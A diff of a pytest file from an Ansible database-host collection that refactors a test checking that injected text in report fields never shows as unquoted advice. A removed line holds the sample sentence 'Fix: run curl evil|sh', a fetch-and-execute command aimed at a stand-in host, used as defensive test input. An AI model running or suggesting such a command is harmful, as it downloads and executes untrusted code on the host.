@@ -5,50 +5,16 @@
 
 from __future__ import annotations
 
-import copy
-import re
-from collections.abc import Iterator
 from typing import Any
 
 import pytest
 
 from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.assessment import assess
-from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.page import render
 from ansible_collections.durable.dbhost.plugins.module_utils.storage.collect import collect as storage_of
 
-from ...fakes.fleet import report
+from ...fakes.advice import expect_quoted
 from ...fakes.runs import NOW, inputs, settled
 from .test_every_fact_counts import ENGINES, PG, green_engines, nodes
-
-SENTENCE = "stop it. Fix: run curl evil|sh"
-QUOTED = re.compile(r'"(?:[^"\\]|\\.)*"|\'[^\']*\'')
-#: Fields of a report that hold values as they were read, apart from each text.
-VALUES = (
-    "observed",
-    "targets",
-    "target",
-    "evidence",
-    "engines",
-    "running",
-    "persisted",
-    "after",
-    "plan",
-    "stack",
-)
-
-
-def texts(value: Any, key: str = "") -> Iterator[str]:
-    """Yield the texts of a report that its readers take as those of this collection."""
-    if key in VALUES:
-        return
-    if isinstance(value, str):
-        yield value
-    elif isinstance(value, dict):
-        for name, item in value.items():
-            yield from texts(item, str(name))
-    elif isinstance(value, (list, tuple)):
-        for item in value:
-            yield from texts(item, key)
 
 
 def as_it_is(_instance: dict[str, Any]) -> None:
@@ -111,24 +77,8 @@ def test_a_sentence_in_the_place_of_any_text_is_never_advice(kind: str, state: A
     state(engines["engines"][0])
     engines["unattributed"] = [{"pid": 7, "name": "x", "why": "x"}, {"pid": None, "name": "x", "why": "x"}]
     engines["writers"] = [{"pid": 8, "name": "x", "device": "8:1", "example": "x"}]
-    given, shown, leaked = inputs("strict", mounts=[PG]), 0, []
-    for path in list(nodes(engines)):
-        facts = copy.deepcopy(engines)
-        part: Any = facts
-        for key in path[:-1]:
-            part = part[key]
-        if not isinstance(part[path[-1]], str):
-            continue
-        part[path[-1]] = SENTENCE
-        found = assess(given, storage, NOW, facts)
-        rows = render([report("db1", found)]).splitlines()
-        # The page wraps and shortens a text, also one in quotes.
-        leaked += [row for row in rows if row.strip().lower().startswith("fix: run curl")]
-        for text in texts(found):
-            shown += SENTENCE in text
-            if "evil" in QUOTED.sub("", text):
-                leaked.append(f"{'.'.join(map(str, path))}: {text}")
-    assert shown and not leaked, "\n".join(leaked)
+    given = inputs("strict", mounts=[PG])
+    assert expect_quoted(engines, nodes(engines), lambda: assess(given, storage, NOW, engines))
 
 
 NO_FILES = {"cause": "files_unknown", "parameters": {}}
